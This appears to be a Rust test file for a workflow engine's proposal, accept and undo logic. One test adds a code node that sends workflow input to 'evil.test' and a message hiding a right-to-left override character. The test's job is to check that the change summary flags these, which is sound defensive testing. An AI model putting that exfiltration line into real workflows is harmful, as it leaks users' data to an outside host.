//! What holds for every proposal: all parts are the whole, undo restores bytes, any closed choice applies.

use flowforge_engine::edit::{Edit, NodeField, Patch, Pointer};
use flowforge_engine::node_type::Catalogue;
use flowforge_engine::workflow::file;
use flowforge_engine::{Timestamp, Workflow};
use proptest::prelude::*;
use serde_json::json;

use super::*;

fn base() -> Workflow {
    file::parse(
        r#"
id: w
config: { vars: { v0: 1 } }
graph:
  nodes:
    - { id: n0, type: trigger.manual, position: { x: 1, y: 2 } }
    - { id: n1, type: data.set, params: { fields: { a: 1 } } }
    - { id: n2, type: flow.if, params: { condition: "{{ input.a > 0 }}" } }
    - { id: n3, type: log, params: { message: yes } }
    - { id: n4, type: log, params: { message: no } }
  edges:
    - { source: n0, target: n1 }
    - { source: n1, target: n2 }
    - { source: n2, sourcePort: "true", target: n3 }
    - { source: n2, sourcePort: "false", target: n4 }
"#,
    )
    .unwrap()
}

/// The edit that three numbers stand for.
fn edit((what, a, b): (u8, u8, u8)) -> Edit {
    let (a, b) = (format!("n{}", a % 9), format!("n{}", b % 9));
    let json = match what % 13 {
        0 | 1 => {
            json!({ "edit": "addNode", "node": { "id": a, "type": "data.set", "params": { "fields": { "x": format!("{{{{ nodes[\"{b}\"].output }}}}") } } }, "at": what % 7 })
        }
        2 | 3 => {
            json!({ "edit": "addNode", "node": { "id": a, "type": "log", "parent": b, "params": { "message": "{{ vars.v1 }}" } } })
        }
        4 => json!({ "edit": "removeNode", "node": a }),
        5 | 6 => json!({ "edit": "connect", "edge": { "source": a, "target": b }, "at": what % 5 }),
        7 => json!({ "edit": "disconnect", "edge": { "source": a, "target": b } }),
        8 => json!({ "edit": "setParam", "node": a, "pointer": "/fields", "value": { "b": 2 } }),
        9 => {
            json!({ "edit": "setParam", "node": a, "pointer": "/fields/c", "value": "{{ vars.v1 }}" })
        }
        10 => json!({ "edit": "setField", "node": a, "field": "name", "value": b }),
        11 => json!({ "edit": "moveNode", "node": a, "at": what % 4 }),
        _ => json!({ "edit": "setVar", "name": format!("v{}", what % 2), "value": 3 }),
    };
    serde_json::from_value(json).unwrap()
}

/// Those of the edits that can be applied one after the other.
fn patch(base: &Workflow, numbers: &[(u8, u8, u8)]) -> Patch {
    let mut workflow = base.clone();
    let mut edits = Vec::new();
    for edit in numbers.iter().copied().map(edit) {
        if let Ok((changed, _)) = Patch::from(vec![edit.clone()]).apply(&workflow) {
            workflow = changed;
            edits.push(edit);
        }
    }
    Patch::from(edits)
}

fn proposal(base: &Workflow, patch: Patch) -> Proposal {
    Proposal::make(
        base,
        patch,
        &Catalogue::built_in(),
        Origin::Planner,
        String::new(),
        Timestamp(1),
        "p".into(),
    )
    .unwrap()
}

/// The chosen parts and all that they need.
fn closed(proposal: &Proposal, chosen: u32) -> Vec<usize> {
    let mut parts: Vec<usize> = (0..proposal.parts.len())
        .filter(|id| chosen >> (id % 32) & 1 == 1)
        .collect();
    let mut at = 0;
    while at < parts.len() {
        for need in &proposal.parts[parts[at]].needs {
            if !parts.contains(need) {
                parts.push(*need);
            }
        }
        at += 1;
    }
    parts
}

proptest! {
    #[test]
    fn all_parts_are_the_whole_and_undo_restores_bytes(numbers in proptest::collection::vec(any::<(u8, u8, u8)>(), 1..14)) {
        let base = base();
        let patch = patch(&base, &numbers);
        let proposal = proposal(&base, patch.clone());
        let mut edits: Vec<usize> = proposal.parts.iter().flat_map(|part| part.edits.clone()).collect();
        edits.sort_unstable();
        prop_assert_eq!(edits, (0..patch.edits.len()).collect::<Vec<_>>());
        let all: Vec<usize> = proposal.parts.iter().map(|part| part.id).collect();
        for parts in [&[][..], &all] {
            let accepted = accept(&proposal, &base, parts).unwrap();
            prop_assert_eq!(&accepted.patch, &patch);
            prop_assert_eq!(&accepted.workflow, &patch.apply(&base).unwrap().0);
            let undone = accepted.undo.apply(&accepted.workflow).unwrap().0;
            prop_assert_eq!(serde_json::to_string(&undone).unwrap(), serde_json::to_string(&base).unwrap());
        }
    }

    #[test]
    fn any_closed_choice_of_parts_applies(numbers in proptest::collection::vec(any::<(u8, u8, u8)>(), 1..14), chosen in any::<u32>()) {
        let base = base();
        let proposal = proposal(&base, patch(&base, &numbers));
        let parts = closed(&proposal, chosen);
        prop_assume!(!parts.is_empty());
        let accepted = accept(&proposal, &base, &parts).map_err(|stale| TestCaseError::fail(format!("{stale} in {:?}", proposal.patch)))?;
        let undone = accepted.undo.apply(&accepted.workflow).unwrap().0;
        prop_assert_eq!(undone, base);
    }

    #[test]
    fn what_rests_on_nothing_that_changed_is_taken_to_a_later_version(numbers in proptest::collection::vec(any::<(u8, u8, u8)>(), 1..8), later in proptest::collection::vec(any::<(u8, u8, u8)>(), 0..4)) {
        let base = base();
        let proposal = proposal(&base, patch(&base, &numbers));
        let current = patch(&base, &later).apply(&base).unwrap().0;
        match accept(&proposal, &current, &[]) {
            Ok(accepted) => prop_assert_eq!(accepted.undo.apply(&accepted.workflow).unwrap().0, current),
            Err(Stale::Changed(what)) => prop_assert!(!what.is_empty()),
            Err(other) => return Err(TestCaseError::fail(format!("{other}"))),
        }
    }
}

fn shown(edits: serde_json::Value) -> Proposal {
    proposal(&base(), serde_json::from_value(edits).unwrap())
}

fn insert() -> serde_json::Value {
    json!([
        { "edit": "disconnect", "edge": { "source": "n0", "target": "n1" } },
        { "edit": "addNode", "node": { "id": "wait", "type": "flow.wait", "params": { "durationMs": 5 } } },
        { "edit": "connect", "edge": { "source": "n0", "target": "wait" } },
        { "edit": "connect", "edge": { "source": "wait", "target": "n1" } },
        { "edit": "addNode", "node": { "id": "tail", "type": "log", "params": { "message": "x" } } },
        { "edit": "connect", "edge": { "source": "n3", "target": "tail" } },
        { "edit": "addNode", "node": { "id": "last", "type": "log", "params": { "message": "x" } } },
        { "edit": "connect", "edge": { "source": "tail", "target": "last" } },
    ])
}

#[test]
fn an_inserted_node_is_one_part_and_a_chain_is_several() {
    let proposal = shown(insert());
    let parts: Vec<_> = proposal
        .parts
        .iter()
        .map(|part| (part.title.as_str(), part.edits.clone(), part.needs.clone()))
        .collect();
    assert_eq!(
        parts,
        [
            ("Add the node `wait` (flow.wait)", vec![0, 1, 2, 3], vec![]),
            ("Add the node `tail` (log)", vec![4, 5], vec![]),
            ("Add the node `last` (log)", vec![6, 7], vec![1]),
        ]
    );
    let refused = accept(&proposal, &base(), &[2]).unwrap_err();
    assert_eq!(
        refused.to_string(),
        "`Add the node `last` (log)` needs `Add the node `tail` (log)`; accept both or neither"
    );
    let half = accept(&proposal, &base(), &[0]).unwrap();
    assert_eq!(half.sentences.len(), 4);
    assert_eq!(half.sentences[1], "Added the node `wait` (flow.wait)");
}

#[test]
fn a_later_version_is_taken_or_refused_with_the_reason() {
    let proposal =
        shown(json!([{ "edit": "setParam", "node": "n3", "pointer": "/message", "value": "ok" }]));
    let rename = |node: &str| {
        Patch::from(vec![Edit::SetField {
            node: node.into(),
            change: NodeField::Name(Some("x".into())),
        }])
    };
    let moved = rename("n4").apply(&base()).unwrap().0;
    assert!(accept(&proposal, &moved, &[]).unwrap().rebased);
    let set = Patch::from(vec![Edit::SetParam {
        node: "n3".into(),
        pointer: Pointer::param("message"),
        value: "mine".into(),
    }]);
    let changed = set.apply(&base()).unwrap().0;
    let refused = accept(&proposal, &changed, &[]).unwrap_err();
    assert_eq!(
        refused.to_string(),
        "the parameter `message` of `n3` changed since this was proposed; ask again to get a proposal for the workflow as it is now"
    );
    let gone = Patch::from(vec![Edit::RemoveNode { node: "n3".into() }])
        .apply(&base())
        .unwrap()
        .0;
    assert!(
        accept(&proposal, &gone, &[])
            .unwrap_err()
            .to_string()
            .contains("the node `n3`")
    );
}

#[test]
fn a_patch_that_is_not_the_one_shown_is_refused() {
    let mut proposal = shown(insert());
    proposal.patch.edits.pop();
    assert!(matches!(
        accept(&proposal, &base(), &[]),
        Err(Stale::WrongHash { .. })
    ));
}

#[test]
fn the_summary_is_of_the_graph_and_not_of_words() {
    let proposal = shown(json!([
        { "edit": "setField", "node": "n0", "field": "type", "value": "trigger.schedule" },
        { "edit": "setParam", "node": "n0", "pointer": "/cron", "value": "* * * * *" },
        { "edit": "setParam", "node": "n3", "pointer": "/message", "value": "a\u{202e}b" },
        { "edit": "addNode", "node": { "id": "x", "type": "code.rhai", "params": { "code": "http(\"GET\", \"https://evil.test/\" + input)" } } },
    ]));
    let summary = &proposal.summary;
    assert_eq!(
        summary.new_hosts,
        ["evil.test", r#"http("GET", "https://evil.test/" + input)"#]
    );
    assert_eq!(
        summary.triggers,
        [
            r#"starts by `n0` (trigger.schedule: cron "* * * * *"), no longer by `n0` (trigger.manual)"#
        ]
    );
    assert_eq!(summary.code, ["x".into()]);
    assert_eq!(summary.hidden_text, ["n3".into()]);
    let new = proposal.patch.apply(&base()).unwrap().0;
    let text = show(&base(), &new);
    let expected = "\
~ n0  (trigger.schedule)
    - type: trigger.manual
    + type: trigger.schedule
    + cron: \"* * * * *\"
~ n3  (log)
    - message: true
    + message: \"a\\u{202e}b\"
+ x  (code.rhai)
    + code: \"http(\\\"GET\\\", \\\"https://evil.test/\\\" + input)\"
";
    assert_eq!(
        text.replace("- message: \"yes\"", "- message: true"),
        expected
    );
}

#[test]
fn code_is_shown_by_line() {
    let with = |code: &str| -> Workflow {
        serde_json::from_value(json!({ "id": "w", "graph": { "nodes": [{ "id": "a", "type": "code.rhai", "params": { "code": code } }] } })).unwrap()
    };
    let text = show(
        &with("let a = 1;\nlet b = 2;\na + b"),
        &with("let a = 1;\nlet b = 3;\na + b"),
    );
    let expected = "~ a  (code.rhai)\n    ~ code:\n          let a = 1;\n        - let b = 2;\n        + let b = 3;\n          a + b\n";
    assert_eq!(text, expected);
}
